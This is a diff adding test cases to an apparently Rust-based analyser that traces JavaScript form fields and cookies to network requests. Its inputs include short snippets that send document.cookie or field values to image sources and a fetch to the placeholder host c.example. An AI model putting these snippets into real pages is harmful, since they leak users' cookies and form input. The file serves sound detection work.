@@ -53,6 +53,25 @@ fn values_are_followed_to_where_they_go() {
             "new Ajax.Request('//c.example',{parameters:Form.serialize(q)})",
             "Field+Address>Request",
         ),
+        ("by a pattern", "const {value}=e.target;i.src=value", "Field>Fetched"),
+        ("by a pattern that renames", "const {value:v='',name}=e.target;i.src=v", "Field>Fetched"),
+        ("by a pattern in a pattern", "const {target:{value}}=e;i.src=value", "Field>Fetched"),
+        ("by a pattern of a loop", "for(const {name,value} of q.elements)i.src=value", "Field>Fetched"),
+        (
+            "by a pattern without a declaration",
+            "let cookie;({cookie}=document);i.src=cookie",
+            "Cookie+AllCookies>Fetched",
+        ),
+        ("not by another part", "const {value,name}=e.target;i.src=name", ""),
+        ("not by an object", "use({value});i.src=q", ""),
+        ("cookies by a pattern", "const {cookie}=document;i.src=cookie", "Cookie+AllCookies>Fetched"),
+        (
+            "cookies by a pattern of the window",
+            "const {document:{cookie:c}}=window;i.src=c",
+            "Cookie+AllCookies>Fetched",
+        ),
+        ("one cookie by a pattern", "const {cookie:c}=document;i.src=c.split('; ')[0]", "Cookie>Fetched"),
+        ("not all cookies of a request", "const {cookie}=request.headers;i.src=cookie", "Cookie>Fetched"),
         ("by a return value", "function get(){return a.value}location=get()", "Field>Navigation"),
         ("by a function in a variable", "var f=(d)=>{i.src=d};f(a.value)", "Field>Fetched"),
         ("by a method", "var o={f:function(d){i.src=d}};o.f(a.value)", "Field>Fetched"),
@@ -284,5 +303,18 @@ fn unbalanced_text_is_walked_to_its_end() {
         [")]}".repeat(500), "(a=[{b:".repeat(500), "f(function(a){".repeat(500), "a=>b=>".repeat(5_000)]
     {
         read(&format!("{source};i.src=a.value"));
+    }
+}
+
+#[test]
+fn brackets_that_no_browser_parses_hide_nothing_around_them() {
+    let attack = "fetch('//c.example/'+a.value)";
+    for (open, close) in [("(", ")"), ("[", "]"), ("f(", ")"), ("{", "}"), ("a=[", "]"), ("a=>(", ")")] {
+        for depth in [crate::limits::NESTING - 2, crate::limits::NESTING, crate::limits::NESTING + 3] {
+            let nested = format!("{}0{}", open.repeat(depth), close.repeat(depth));
+            for source in [format!("{nested};{attack}"), format!("{attack};{nested}")] {
+                assert_eq!(read(&source), ["Field+Address>Request"], "{depth} times {open}");
+            }
+        }
     }
 }
